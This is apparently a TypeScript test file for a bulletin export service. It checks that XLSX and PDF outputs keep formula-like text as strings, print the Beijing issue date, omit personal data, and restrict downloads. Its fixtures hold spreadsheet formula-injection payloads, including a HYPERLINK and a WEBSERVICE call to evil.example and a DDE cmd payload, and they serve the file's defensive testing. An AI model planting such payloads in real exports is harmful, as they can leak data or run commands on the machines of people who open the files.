/**
 * The bulletin packs as people open them: what a supervisor types (summary, units named, visit findings) that
 * starts like a spreadsheet formula stays text in the Excel workbook (a string cell, never a formula) and reads
 * the same in the PDF; the issue date is the Beijing day; no household's personal data is printed; and a
 * document is downloaded only by those entitled to it.
 */
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import request from 'supertest';
import { pdfText } from '@libs/bulletins/pdf-text';
import { at, bulletinHelpers, OFFICE, WANG } from './support/bulletin-fixtures';
import { startTestApp, TestApp } from './support/test-app';

const D = '640104';
// Each starts with a character Excel or WPS reads as a formula when it is typed, pasted or imported as CSV.
const HOSTILE = {
  summary: '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
  units: ["+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1'],
  findings: '=WEBSERVICE("http://evil.example/findings")',
  citySummary: '-1+1 全市“幸福家庭”创建, 说明 "引号"\n第二行',
};
const PERSON = { name: 'Zhou Markerman', idNumber: '64010419660606666X', phone: '13966660666' };
// 16:30 UTC on 30 April is 00:30 on 1 May in Beijing: the bulletin is issued on 1 May there.
const ISSUED_AT = '2012-04-30T16:30:00.000Z';

type Cells = { sheet: string; type: ExcelJS.ValueType; value: unknown }[];

describe('bulletin documents as people open them', () => {
  let app: TestApp;
  const { post, binary, household } = bulletinHelpers(() => app);
  let district: { xlsx: Buffer; pdf: Buffer; path: string };
  let city: { xlsx: Buffer; pdf: Buffer };

  beforeAll(async () => {
    app = await startTestApp({ projector: true });
    await post(`/supervision/${D}/assignment`, OFFICE, { supervisorId: 'sup-wang', reason: 'order 12', occurredAt: at('01-01') }).expect(
      200,
    );
    await household('640104001001', at('03-10'));
    await app.runtime.eventStore.appendToStream(`household-${randomUUID()}`, [enrolledWithPersonalData()]);
    await post(`/supervision/${D}/visits`, WANG, {
      month: '201203',
      unitsVisited: ['640104001'],
      findings: HOSTILE.findings,
      occurredAt: at('03-20'),
    }).expect(201);
    const issued = await post(`/supervision/${D}/bulletins`, WANG, {
      bulletinId: '-2-3',
      period: '201202B',
      kind: 'criticism',
      units: HOSTILE.units,
      summary: HOSTILE.summary,
      occurredAt: ISSUED_AT,
    }).expect(201);
    const path = `/supervision/${D}/bulletins/${issued.body.bulletinId}`;
    district = { path, xlsx: (await binary(`${path}/xlsx`).expect(200)).body, pdf: (await binary(`${path}/pdf`).expect(200)).body };
    const cityIssued = await post('/supervision/city/bulletins', OFFICE, {
      period: '201202B',
      kind: 'criticism',
      units: ['=640104'],
      summary: HOSTILE.citySummary,
      occurredAt: ISSUED_AT,
    }).expect(201);
    const cityPath = `/supervision/city/bulletins/${cityIssued.body.bulletinId}`;
    city = { xlsx: (await binary(`${cityPath}/xlsx`).expect(200)).body, pdf: (await binary(`${cityPath}/pdf`).expect(200)).body };
  });
  afterAll(() => app?.close());

  it("keeps a district bulletin's formula-like text as string cells, never formulas", async () => {
    expect(await formulaElements(district.xlsx)).toEqual([]);
    const cells = await cellsOf(district.xlsx);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    for (const text of [HOSTILE.summary, '-2-3', ...HOSTILE.units])
      expect(cells.filter((c) => c.value === text).map((c) => c.type)).toContain(ExcelJS.ValueType.String);
  });

  it("keeps the city bulletin's text, commas, quotes and line breaks included, as string cells", async () => {
    expect(await formulaElements(city.xlsx)).toEqual([]);
    const cells = await cellsOf(city.xlsx);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    for (const text of [HOSTILE.citySummary, '=640104'])
      expect(cells.filter((c) => c.value === text).map((c) => c.type)).toContain(ExcelJS.ValueType.String);
  });

  it('keeps counts as number cells', async () => {
    const cells = await cellsOf(district.xlsx);
    const enrolled = cells.findIndex((c) => c.value === '创建家庭户数（期末）');
    expect(cells[enrolled + 1]).toEqual({ sheet: '主要指标完成情况', type: ExcelJS.ValueType.Number, value: 2 });
  });

  it('prints the Beijing day of issue in the workbook and the PDF', async () => {
    const issuedOn = `2012年5月1日（${ISSUED_AT}）`;
    expect((await cellsOf(district.xlsx)).map((c) => c.value)).toContain(issuedOn);
    expect((await cellsOf(city.xlsx)).map((c) => c.value)).toContain(issuedOn);
    for (const pdf of [district.pdf, city.pdf]) expect(pdfText(pdf).replace(/\s/g, '')).toContain(issuedOn);
  });

  it("prints no household's personal data, nor the visit's findings, in any document", async () => {
    const texts = [
      ...(await cellsOf(district.xlsx)).map((c) => String(c.value)),
      ...(await cellsOf(city.xlsx)).map((c) => String(c.value)),
      pdfText(district.pdf),
      pdfText(city.pdf),
    ].join('\n');
    for (const secret of [...Object.values(PERSON), HOSTILE.findings]) expect(texts).not.toContain(secret);
  });

  it("lets neither an analyst nor another district's supervisor download a district's documents", async () => {
    const as = async (role: 'analyst' | 'supervisor' | 'registrar', ou: string) => `Bearer ${await app.token(role, { ou })}`;
    for (const format of ['xlsx', 'pdf']) {
      const path = `${district.path}/${format}`;
      await request(app.http)
        .get(path)
        .set('Authorization', await as('supervisor', '640105'))
        .expect(404);
      await request(app.http)
        .get(path)
        .set('Authorization', await as('analyst', '640100'))
        .expect(403);
      await request(app.http)
        .get(path)
        .set('Authorization', await as('registrar', D))
        .expect(403);
      await request(app.http)
        .get(path)
        .set('Authorization', await as('supervisor', D))
        .expect(200);
    }
  });
});

/** Every `<f>` (formula) element in the workbook's sheets: none is expected. */
async function formulaElements(xlsx: Buffer): Promise<string[]> {
  const zip = await JSZip.loadAsync(xlsx);
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(1);
  const xml = await Promise.all(sheets.map((name) => zip.file(name)!.async('string')));
  return xml.flatMap((text) => text.match(/<f[\s>][^<]*/g) ?? []);
}

async function cellsOf(xlsx: Buffer): Promise<Cells> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx as never);
  const cells: Cells = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ sheet: sheet.name, type: cell.type, value: cell.value }))),
  );
  return cells;
}

function enrolledWithPersonalData() {
  const householdId = randomUUID();
  return {
    id: randomUUID(),
    type: 'HouseholdEnrolled',
    data: { householdId, villageCode: '640104001002', category: 'developing', members: 4, head: PERSON, enrolmentYear: 2012, batch: 1 },
    metadata: { actor: 'seed', correlationId: randomUUID(), causationId: randomUUID(), occurredAt: at('03-11') },
  };
}
